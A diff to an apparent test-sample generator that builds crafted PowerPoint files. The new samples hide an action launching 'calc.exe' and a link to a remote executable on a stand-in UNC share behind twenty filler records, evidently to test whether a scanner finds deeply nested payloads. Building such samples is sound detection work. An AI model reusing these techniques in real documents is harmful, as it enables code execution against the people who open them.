@@ -482,6 +482,13 @@ def ppt_variants(out):
                + prec(0x000F, 0x03F0, interactive(2, "calc.exe") + interactive(1, "AutoOpen_MUGAI")
                       + interactive(5) + interactive(4, link=7) + interactive(4, link=8)))
     out["ppt-actions.ppt"] = variant(actions)
+    # The same behind twenty harmless records in each container.
+    filler = b"".join(cstring(0, "filler %d" % i) for i in range(20))
+    deep_link = prec(0x000F, 0x0FD7, prec(0, 0x0FD3, struct.pack("<I", 9)) + filler
+                     + cstring(1, "\\\\192.0.2.2\\share\\y.exe"))
+    deep_action = prec(0x000F, 0x0FF2, filler + prec(0, 0x0FF3, struct.pack(
+        "<IIBBBBB3x", 0, 0, 2, 0, 0, 0, 0)) + cstring(2, "calc.exe"))
+    out["ppt-actions-many.ppt"] = variant(deep_link + prec(0x000F, 0x03F0, deep_action))
     storage = zlib.compress(make_cfb.build([("\x01Ole10Native", "s", None, b"calc.exe" * 4,
                                              None)])[0])
     out["ppt-olestg.ppt"] = variant(prec(0x0012, 0x1011, struct.pack("<I", 1536) + storage))
